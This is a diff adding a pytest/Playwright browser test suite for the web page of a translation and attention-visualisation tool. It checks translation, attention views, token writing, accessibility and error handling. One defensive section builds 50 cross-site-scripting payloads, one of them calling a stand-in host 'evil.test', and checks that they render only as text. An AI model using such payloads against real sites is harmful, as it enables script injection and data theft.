@@ -1,0 +1,582 @@
+"""The page of `regard serve`, in a real browser against the real server: what people see, point at and type."""
+
+import json
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlencode
+
+import pytest
+import torch
+
+import regard
+from regard.config import SpecialIds
+from regard.decode.attend import Attention
+from regard.model.transformer import build
+from regard.store import Stored, save
+from regard.text.tokenizer import Tokenizer
+from tests.browser import MISSING, chromium, serving
+from tests.oracles import randomise, small
+
+pytestmark = pytest.mark.skipif(bool(MISSING), reason=f"not here: {', '.join(MISSING)}")
+
+SENTENCE = "Il y a trois livres sur la table."
+LOOK = f"#/look?{urlencode({'model': 'petit-fr-en', 'source': SENTENCE})}"
+REFUSED = "Failed to load resource"
+"""what Chromium says on the console of every answer that is an error"""
+
+
+@pytest.fixture(scope="module")
+def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    torch.manual_seed(0)
+    tokenizer = Tokenizer.train(["the cat sleeps on the mat", "a dog sings and the cat sleeps"] * 4, 320)
+    network = build(small(kind="decoder", vocab_size=tokenizer.size, max_length=64)).eval()
+    randomise([network])
+    folder = tmp_path_factory.mktemp("models") / "tiny"
+    save(Stored(network, tokenizer, SpecialIds(end=(tokenizer.end,))), folder)
+    with serving(["fr-en", "petit-fr-en", f"writer={folder}"]) as started:
+        yield started
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with chromium() as started:
+        yield started
+
+
+@pytest.fixture(scope="module")
+def looked() -> Attention:
+    return regard.load("petit-fr-en").attend(SENTENCE)
+
+
+class Opened:
+    """An open page; at its end it must have said nothing on the console and asked nobody else."""
+
+    def __init__(self, browser: Any, address: str, **options: Any) -> None:
+        self.address = address
+        self.context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}} | options)
+        self.page = self.context.new_page()
+        self.page.set_default_timeout(10_000)
+        self.said: list[str] = []
+        self.page.on("console", lambda message: self.said.append(message.text))
+        self.page.on("pageerror", lambda error: self.said.append(str(error)))
+        self.page.on("dialog", self._answer)
+        self.page.on("request", lambda asked: self.said.extend([asked.url] * (not asked.url.startswith(address))))
+
+    def _answer(self, dialog: Any) -> None:
+        self.said.append(dialog.message)
+        dialog.dismiss()
+
+    def open(self, hash_: str = "", wait: str = "main h1") -> "Opened":
+        self.page.goto(self.address + hash_)
+        self.page.wait_for_selector(wait)
+        return self
+
+    def look(self, hash_: str = LOOK) -> "Opened":
+        return self.open(hash_, ".look-heads button")
+
+    def stub(self, path: str, answer: Any) -> None:
+        """Have the server answer this."""
+        self.page.route(f"**{path}", lambda route: route.fulfill(json=answer))
+
+    def until(self, what: Callable[[], bool]) -> None:
+        for _ in range(200):
+            if what():
+                return
+            self.page.wait_for_timeout(50)
+        raise AssertionError("it did not come about")
+
+    def text(self, selector: str) -> str:
+        return str(self.page.locator(selector).first.text_content())
+
+    def focused(self) -> str:
+        script = (
+            "(e => e.getAttribute('aria-label') ?? e.labels?.[0]?.textContent ?? e.textContent)(document.activeElement)"
+        )
+        return str(self.page.evaluate(script)).strip()
+
+    def press(self, *keys: str) -> None:
+        for key in keys:
+            self.page.keyboard.press(key)
+
+    def close(self) -> None:
+        self.context.close()
+        assert self.said == []
+
+
+@pytest.fixture
+def opened(browser: Any, address: str) -> Iterator[Opened]:
+    page = Opened(browser, address)
+    yield page
+    page.close()
+
+
+def shares(opened: Opened, side: str) -> list[float]:
+    texts = opened.page.locator(f".look-{side} .look-share").all_text_contents()
+    return [float(text.removesuffix(" %")) / 100 for text in texts if text]
+
+
+# Translate.
+
+
+def test_what_is_typed_is_translated(opened: Opened) -> None:
+    opened.open()
+    opened.page.locator("#source").press_sequentially(SENTENCE)
+    opened.until(lambda: opened.text(".result") == "There are three books on the table.")
+    alternatives = opened.page.locator(".others li")
+    assert alternatives.count() == 3
+    scores = [float(each.replace("−", "-")) for each in alternatives.locator(".score").all_text_contents()]
+    assert all(score < 0 for score in scores)
+    assert f"source={urlencode({'': SENTENCE})[1:]}" in opened.page.url
+    opened.page.get_by_role("link", name="Look at this translation").click()
+    opened.page.wait_for_selector(".look-heads button")
+    assert opened.page.locator("#look-source").input_value() == SENTENCE
+
+
+def test_the_translation_is_copied(browser: Any, address: str) -> None:
+    opened = Opened(browser, address, permissions=["clipboard-read", "clipboard-write"])
+    opened.open(f"#/translate?{urlencode({'source': SENTENCE})}")
+    opened.page.get_by_role("button", name="Copy").click()
+    opened.page.get_by_role("button", name="Copied").wait_for()
+    assert opened.page.evaluate("navigator.clipboard.readText()") == opened.text(".result")
+    opened.close()
+
+
+def test_an_answer_that_comes_too_late_is_dropped(opened: Opened) -> None:
+    held: list[Any] = []
+
+    def answer(route: Any) -> None:
+        text = json.loads(route.request.post_data)["text"]
+        if text == "un":
+            held.append(route)
+        else:
+            route.fulfill(json={"model": "fr-en", "translations": [{"text": f"<{text}>", "score": -1.0}]})
+
+    opened.page.route("**/api/translate", answer)
+    opened.open()
+    opened.page.locator("#source").fill("un")
+    opened.until(lambda: bool(held))
+    opened.page.locator("#source").fill("deux")
+    opened.until(lambda: opened.text(".result") == "<deux>")
+    held[0].fulfill(json={"model": "fr-en", "translations": [{"text": "late", "score": -1.0}]})
+    opened.page.wait_for_timeout(200)
+    assert opened.text(".result") == "<deux>"
+
+
+# Look.
+
+
+def test_hovering_shows_the_model_s_own_weights(opened: Opened, looked: Attention) -> None:
+    weights = looked.weights["cross"]
+    opened.look()
+    layers, heads = weights.shape[:2]
+    assert opened.page.locator(".look-heads button").count() == layers * (heads + 1)
+    opened.page.get_by_role("button", name="layer 0, head 3", exact=True).click()
+    opened.page.locator(".look-queries button").nth(4).hover()
+    torch.testing.assert_close(torch.tensor(shares(opened, "keys")), weights[0, 3, 4], rtol=0.01, atol=1e-5)
+    opened.page.locator(".look-keys button").nth(2).hover()
+    torch.testing.assert_close(torch.tensor(shares(opened, "queries")), weights[0, 3, :, 2], rtol=0.01, atol=1e-5)
+
+
+def test_the_gold_alignment_lies_over_cross_attention(opened: Opened) -> None:
+    opened.look(f"{LOOK}&layer=1&head=2")
+    assert "looks most at the right token for" in opened.text(".look-gold")
+    pixels = "e => e.toDataURL()"
+    canvas = opened.page.locator(".look-matrix canvas")
+    before = canvas.evaluate(pixels)
+    opened.page.get_by_label("gold alignment").uncheck()
+    assert canvas.evaluate(pixels) != before
+    opened.page.get_by_role("radio", name="Encoder").check()
+    assert opened.page.locator(".look-gold").is_hidden()
+
+
+def test_stepping_through_the_translation(opened: Opened, looked: Attention) -> None:
+    opened.look()
+    slider = opened.page.get_by_role("slider", name="Step of decoding")
+    slider.focus()
+    opened.press("Home", "ArrowRight")
+    written = looked.maps["cross"].writes
+    assert opened.text(".step-where") == f"Step 2 of {len(written)} writes {written[1]}"
+    assert opened.page.locator(".look-later").count() == len(written) - 2
+    assert opened.page.locator(".bar-chosen .bar-token").text_content() == written[1]
+    percents = [each for each in opened.page.locator(".steps .bar-share").all_text_contents() if "<" not in each]
+    assert 0 < sum(float(each.removesuffix(" %")) for each in percents) <= 100
+    opened.until(lambda: "step=2" in opened.page.url)
+    opened.page.get_by_role("button", name="Play").click()
+    opened.until(lambda: "Step 4" in opened.text(".step-where"))
+    opened.page.get_by_role("button", name="Pause").click()
+
+
+def test_the_beam_is_a_tree_whose_best_path_is_the_translation(opened: Opened, looked: Attention) -> None:
+    opened.look()
+    best = opened.page.locator(".beam g.beam-best text").all_text_contents()
+    written = looked.maps["cross"].writes
+    assert [each.lstrip("·") for each in best[1:]] == [each.lstrip("·") for each in written]
+    kept = opened.page.locator(".beam g").count()
+    opened.page.get_by_label("with what was never kept").check()
+    assert opened.page.locator(".beam g").count() > kept
+    opened.page.locator(".beam g[tabindex='0']").focus()
+    opened.press("ArrowRight", "ArrowDown")
+    assert "score" in opened.focused()
+    assert opened.focused() == opened.text(".beam-readout")
+
+
+def test_another_model_and_another_target(opened: Opened) -> None:
+    opened.look()
+    opened.page.get_by_role("radio", name="Encoder").check()
+    assert opened.page.locator(".look-heads button").count() == 2 * 5
+    opened.page.get_by_label("Model").select_option("fr-en")
+    opened.until(lambda: opened.page.locator(".look-heads button").count() == 4 * 5)  # its encoder has four layers
+    assert "model=fr-en" in opened.page.url
+    assert opened.page.get_by_role("radio", name="Encoder").is_checked()
+    opened.page.get_by_role("radio", name="Cross").check()
+    opened.page.get_by_label("Into").fill("A cat.")
+    opened.press("Enter")
+    opened.until(lambda: opened.page.locator(".beam").count() == 0)  # what was given was not searched for
+    assert "reads" in str(opened.page.locator(".look-queries button").first.get_attribute("aria-label"))
+    assert "target=A+cat." in opened.page.url
+
+
+def test_a_link_reproduces_the_view_and_back_goes_back(opened: Opened, browser: Any, address: str) -> None:
+    opened.look()
+    opened.page.get_by_role("radio", name="Decoder").check()
+    opened.page.get_by_role("button", name="layer 0, head 1", exact=True).click()
+    opened.page.locator(".look-queries button").nth(2).click()
+    opened.until(lambda: "step=3" in opened.page.url and "head=1" in opened.page.url)
+    shown = shares(opened, "keys")
+    other = Opened(browser, address).look(opened.page.url.removeprefix(address))
+    other.until(lambda: shares(other, "keys") == shown)
+    assert other.page.get_by_role("radio", name="Decoder").is_checked()
+    assert other.text(".look-large h2") == "Layer 0, head 1"
+    other.close()
+    opened.page.go_back()
+    opened.until(lambda: opened.page.get_by_role("radio", name="Cross").is_checked())
+    opened.page.go_forward()
+    opened.until(lambda: opened.page.get_by_role("radio", name="Decoder").is_checked())
+
+
+# Write.
+
+
+def test_writing_token_by_token(opened: Opened) -> None:
+    opened.open(f"#/write?{urlencode({'model': 'writer', 'text': 'the cat'})}", ".bars button")
+    opened.until(lambda: opened.page.locator(".bars button").count() == 40)
+    assert opened.page.locator(".bar-cut").count() == 0
+    opened.page.get_by_label("Top k").focus()
+    opened.press(*["ArrowRight"] * 5)
+    opened.until(lambda: opened.page.locator(".bar-cut").count() == 35)
+    assert "top_k=5" in opened.page.url
+    field = opened.page.locator("#text")
+    opened.page.locator(".bars button").nth(1).click()
+    opened.until(lambda: len(field.input_value()) > len("the cat"))
+    opened.page.get_by_role("button", name="Undo").click()
+    assert field.input_value() == "the cat"
+    opened.page.get_by_role("button", name="Draw one").click()
+    opened.until(lambda: field.input_value() != "the cat")
+    opened.page.get_by_role("button", name="Let it run").click()
+    opened.until(lambda: opened.page.locator(".chip").count() > 5)
+    opened.page.get_by_role("button", name="Pause").click()
+
+
+def test_without_a_language_model_it_says_how_to_serve_one(opened: Opened, address: str) -> None:
+    models = opened.context.request.get(f"{address}api/models").json()
+    opened.stub("/api/models", [each for each in models if not each["writes"]])
+    opened.open("#/write")
+    assert "No language model is served" in opened.text("main")
+    assert "regard serve" in opened.text("pre")
+
+
+# Labs.
+
+
+def test_reading_a_lab(opened: Opened) -> None:
+    opened.open("#/labs", ".lab h2")
+    assert opened.page.locator(".lab-list a").count() >= 15
+    opened.page.get_by_role("link", name="Does cross-attention look where a word comes from?").click()
+    opened.until(lambda: opened.text(".lab h2") == "Does cross-attention look where a word comes from?")
+    assert opened.page.url.endswith("#/labs/align")
+    opened.until(lambda: opened.page.evaluate("document.querySelector('.lab img').naturalWidth") > 300)
+    assert opened.page.locator(".lab table").count() == 2
+    assert opened.page.locator(".claims li").count() == 3
+    opened.page.go_back()
+    opened.until(lambda: opened.page.url.endswith("#/labs"))
+
+
+# The keyboard, screens and readers.
+
+
+def test_the_keyboard_alone(opened: Opened) -> None:
+    opened.open()
+    opened.press("Tab")
+    assert opened.focused() == "Skip to the content"
+    opened.press("Enter", "Tab")
+    assert opened.focused().startswith("Model")
+    opened.press("Tab")
+    opened.page.keyboard.type(SENTENCE)
+    opened.until(lambda: opened.page.locator(".others li").count() == 3)
+    for _ in range(10):
+        opened.press("Tab")
+        if opened.focused() == "Look at this translation":
+            break
+    opened.press("Enter")
+    opened.page.wait_for_selector(".look-heads button")
+    for _ in range(14):
+        opened.press("Tab")
+        if opened.focused().startswith("layer "):
+            break
+    opened.press("ArrowLeft")
+    assert opened.text(".look-large h2").endswith("head 3")
+    for wanted in ("reads", "Il"):
+        for _ in range(3):
+            opened.press("Tab")
+            if opened.focused().startswith(wanted):
+                break
+        opened.press("ArrowDown")
+        assert "look" in opened.text(".look-readout")
+        opened.press("ArrowUp")
+    opened.press("Tab", "Tab")
+    assert opened.focused() == "Step of decoding"
+
+
+@pytest.mark.parametrize("hash_", ["#/translate?source=Oui", LOOK, "#/write?model=writer&text=the", "#/labs/align"])
+def test_every_control_has_a_name(opened: Opened, hash_: str) -> None:
+    waits = {"t": ".others li", "l": ".look-heads button", "w": ".bars button"}
+    opened.open(hash_, ".lab h2" if "labs" in hash_ else waits[hash_[2]])
+    nameless = """() => {
+      const controls = "button, input, select, textarea, a, img, [tabindex='0'], [role=treeitem]";
+      const name = e => e.getAttribute("aria-label") || e.alt || e.labels?.[0]?.textContent || e.textContent;
+      const seen = [...document.querySelectorAll(controls)].filter(e => !e.closest("[hidden]") && e.alt !== "");
+      return seen.filter(e => !name(e).trim()).map(e => e.outerHTML);
+    }"""
+    assert opened.page.evaluate(nameless) == []
+    assert opened.page.locator("h1").count() == 1
+    assert opened.page.locator("[role=status], [aria-live]").count() >= 1
+
+
+@pytest.mark.parametrize(("width", "scheme"), [(360, "light"), (1920, "dark")])
+def test_it_fits_phone_and_projector_by_day_and_night(browser: Any, address: str, width: int, scheme: str) -> None:
+    opened = Opened(browser, address, viewport={"width": width, "height": 800}, color_scheme=scheme)
+    long = {"source": "Il aime son grand-père et il lui écrit souvent. " * 5, "model": "petit-fr-en"}
+    views = {
+        f"#/translate?{urlencode(long)}": ".others li",
+        f"#/look?{urlencode(long)}": ".look-heads button",
+        "#/write?model=writer&text=the": ".bars button",
+        "#/labs/align": ".lab img",
+    }
+    for hash_, wait in views.items():
+        opened.open(hash_, wait)
+        opened.page.wait_for_timeout(100)
+        assert opened.page.evaluate("document.documentElement.scrollWidth") <= width, hash_
+        opened.page.goto("about:blank")
+    opened.said = [said for said in opened.said if said != "about:blank"]
+    opened.close()
+
+
+def test_those_who_want_no_motion_see_none(browser: Any, address: str) -> None:
+    opened = Opened(browser, address, reduced_motion="reduce").open("#/write?model=writer&text=the", ".bars button")
+    assert opened.page.locator(".bar-after").first.evaluate("e => getComputedStyle(e).transitionDuration") == "0s"
+    opened.close()
+
+
+# What goes wrong.
+
+
+def test_a_busy_server_is_asked_again(opened: Opened) -> None:
+    answers = iter([{"status": 429, "headers": {"Retry-After": "1"}, "json": {"error": "too much waits"}}])
+
+    def answer(route: Any) -> None:
+        refusal = next(answers, None)
+        route.fulfill(**refusal) if refusal else route.fallback()
+
+    opened.page.route("**/api/translate", answer)
+    opened.open()
+    opened.page.locator("#source").fill(SENTENCE)
+    opened.until(lambda: "busy: asking again in 1 s" in opened.text(".notice"))
+    opened.until(lambda: "three books" in opened.text(".result"))
+    assert opened.text(".notice") == ""
+    opened.said = [said for said in opened.said if REFUSED not in said]
+
+
+def test_a_server_that_is_gone_and_comes_back(opened: Opened) -> None:
+    opened.page.route("**/api/attend", lambda route: route.abort())
+    opened.open(LOOK)
+    opened.until(lambda: "The server does not answer" in opened.text(".notice"))
+    opened.page.unroute("**/api/attend")
+    opened.page.get_by_role("button", name="Try again").click()
+    opened.page.wait_for_selector(".look-heads button")
+    opened.said = [said for said in opened.said if REFUSED not in said]
+
+
+def test_what_the_server_refuses_is_told(opened: Opened) -> None:
+    opened.open(f"#/look?{urlencode({'source': 'mot ' * 300})}", ".notice-wrong")
+    assert "300" in opened.text(".notice")
+    opened.page.locator("#look-source").fill(SENTENCE)
+    opened.press("Enter")
+    opened.page.wait_for_selector(".look-heads button")
+    assert opened.text(".notice") == ""
+    opened.said = [said for said in opened.said if REFUSED not in said]
+
+
+def test_a_token_is_asked_for_and_sent(opened: Opened) -> None:
+    def answer(route: Any) -> None:
+        if route.request.headers.get("authorization") == "Bearer sesame":
+            route.fallback()
+        else:
+            route.fulfill(status=401, json={"error": "a token is needed"})
+
+    opened.page.route("**/api/*", answer)
+    opened.open(wait=".notice-wrong")
+    opened.page.get_by_label("Token").fill("sesame")
+    opened.press("Enter")
+    opened.page.wait_for_selector("#source")
+    opened.said = [said for said in opened.said if REFUSED not in said]
+
+
+# Whatever the texts hold, it stays text.
+
+WAYS = (
+    "<script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    "</textarea><script>{}</script>",
+    "</title><svg/onload={}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "javascript:{}",
+    "\"><details open ontoggle={}>",
+    "' autofocus onfocus={} x='",
+    "<math><mtext></mtext><script>{}</script></math>",
+)  # fmt: skip
+CALLS = ("alert({0})", "parent.ran={0}", "fetch('//evil.test/{0}')", "document.title={0}", "confirm`{0}`")
+PAYLOADS = [way.format(call.format(number)) for number, (way, call) in enumerate((w, c) for w in WAYS for c in CALLS)]
+assert len(PAYLOADS) == 50
+
+
+def expect(field: Any, value: str) -> None:
+    from playwright.sync_api import expect as expected
+
+    expected(field).to_have_value(value)
+
+
+def harmless(opened: Opened, where: str) -> None:
+    opened.page.wait_for_timeout(50)
+    assert opened.said == [], where
+    assert opened.page.evaluate("window.ran === undefined"), where
+    assert "Regard" in opened.page.title()
+    assert opened.page.locator("main script, main iframe, main math, main details, main img[src=x]").count() == 0
+
+
+@pytest.mark.slow
+def test_payloads_in_the_source_stay_text(opened: Opened) -> None:
+    """50 by address and 50 by hand, through a model's own tokens and translations."""
+    opened.open()
+    for payload in PAYLOADS:
+        opened.page.evaluate("hash => { location.hash = hash }", f"#/translate?{urlencode({'source': payload})}")
+        expect(opened.page.locator("#source"), payload)
+    harmless(opened, "translate")
+    opened.open("#/look", ".look-heads button")
+    for payload in PAYLOADS:
+        opened.page.locator("#look-source").fill(payload)
+        opened.press("Enter")
+    opened.until(
+        lambda: "confirm" in "".join(opened.page.locator(".look-keys .look-token").all_text_contents()).replace("·", "")
+    )
+    harmless(opened, "look")
+
+
+def test_payloads_in_what_a_model_says_stay_text(opened: Opened) -> None:
+    """50 as translations, with their links; 50 as names and descriptions of models and labs."""
+    translations = [{"text": payload, "score": -float(i)} for i, payload in enumerate(PAYLOADS)]
+    opened.stub("/api/translate", {"model": "fr-en", "translations": translations})
+    told = {"kind": "decoder", "translates": True, "writes": True, "source": "fr", "target": "<b>"}
+    sizes = {"parameters": 1_000, "layers": 1, "heads": 1}
+    opened.stub("/api/models", [{"name": each, "about": each, **told, **sizes} for each in PAYLOADS])
+    opened.open("#/translate?source=Oui", ".others li")
+    assert opened.page.locator(".other-text").all_text_contents() == PAYLOADS[1:]
+    assert opened.page.locator("select option").all_text_contents() == PAYLOADS
+    harmless(opened, "translations")
+    table = {"title": PAYLOADS[0], "head": PAYLOADS, "rows": [PAYLOADS]}
+    claims = [{"text": each, "holds": False} for each in PAYLOADS]
+    lab = {"name": PAYLOADS[1], "question": PAYLOADS[2], "about": PAYLOADS, "claims": claims, "tables": [table]}
+    opened.stub("/api/labs", [{**lab, "notes": PAYLOADS, "picture": "/labs/align.png"}])
+    opened.open("#/labs", ".claims li")
+    assert opened.page.locator(".lab td").all_text_contents() == [each.replace("`", "") for each in PAYLOADS]
+    harmless(opened, "labs")
+
+
+def attention(tokens: list[str]) -> dict[str, Any]:
+    """What the server might answer of a model with such tokens."""
+    t = len(tokens)
+    weights = (torch.randn(1, 2, t, t) * 2).softmax(-1).tolist()
+    one = {"queries": tokens, "keys": tokens, "weights": weights}
+    maps = [{"kind": "encoder", "writes": [], **one}, {"kind": "cross", "writes": tokens, **one}]
+    top = [{"token": each, "p": 1 / t} for each in tokens[:10]]
+    path = [
+        {
+            "id": i,
+            "parent": i - 1 if i else None,
+            "token": each,
+            "score": -i,
+            "step": i,
+            "kept": True,
+            "best": i < t - 1,
+        }
+        for i, each in enumerate(tokens)
+    ]
+    told = {"model": "made", "source": tokens[0], "target": " ".join(tokens), "special": tokens[:2]}
+    steps = [{"token": each, "top": top} for each in tokens]
+    return {**told, "maps": maps, "steps": steps, "beam": {"nodes": path}, "gold": [[i, i] for i in range(t)]}
+
+
+def test_payloads_in_tokens_stay_text(opened: Opened) -> None:
+    """50 as tokens of both sides, in the steps, the beam and the readouts; 50 as what might follow a text."""
+    opened.stub("/api/attend", attention(PAYLOADS))
+    opened.look()
+    assert opened.page.locator(".look-keys .look-token").all_text_contents() == PAYLOADS
+    for row in range(0, 50, 7):
+        opened.page.locator(".look-queries button").nth(row).click()
+        opened.page.locator(".look-keys button").nth(row).hover()
+    harmless(opened, "look")
+    tokens = [{"id": i, "text": each, "p": 0.02, "kept_p": 0.02} for i, each in enumerate(PAYLOADS)]
+    opened.stub("/api/next", {"model": "writer", "tokens": tokens, "text_tokens": PAYLOADS})
+    opened.open("#/write?model=writer&text=the", ".bars button")
+    opened.page.locator(".bars button").nth(3).click()
+    opened.until(lambda: opened.page.locator("#text").input_value() == f"the{PAYLOADS[3]}")
+    assert opened.page.locator(".chip").count() == 50
+    harmless(opened, "write")
+
+
+def test_tokens_that_can_hardly_be_seen(opened: Opened) -> None:
+    tokens = ["", "\u0301", "שלום", "مرحبا", "\u200d", "🏳️‍🌈", "a" * 300, "ﷺ", " ", "\u202eabc"]
+    opened.stub("/api/attend", attention(tokens))
+    opened.look()
+    shown = opened.page.locator(".look-keys .look-token").all_text_contents()
+    assert shown[:4] == ["∅", "◌\u0301", "שלום", "مرحبا"]
+    assert opened.page.evaluate("document.documentElement.scrollWidth") <= 1280
+
+
+def test_a_hundred_tokens(opened: Opened) -> None:
+    opened.stub("/api/attend", attention([f"token{i}" for i in range(100)]))
+    opened.look()
+    opened.page.locator(".look-queries button").nth(99).click()
+    assert len(shares(opened, "keys")) == 100
+    assert opened.page.evaluate("document.documentElement.scrollWidth") <= 1280
+
+
+def test_the_page_fetches_nothing_from_elsewhere_and_sets_no_html() -> None:
+    for path in sorted(Path(regard.__file__).parent.glob("view/page/*.*")):
+        if path.suffix not in (".js", ".css", ".html"):
+            continue
+        text = path.read_text(encoding="utf-8").replace("http://www.w3.org/2000/svg", "")
+        for forbidden in (
+            "http://",
+            "https://",
+            "innerHTML",
+            "outerHTML",
+            "insertAdjacent",
+            "eval(",
+            "@import",
+            "url(",
+        ):
+            assert forbidden not in text, (path.name, forbidden)
+        assert " style=" not in text, path.name
+        assert " onclick=" not in text, path.name
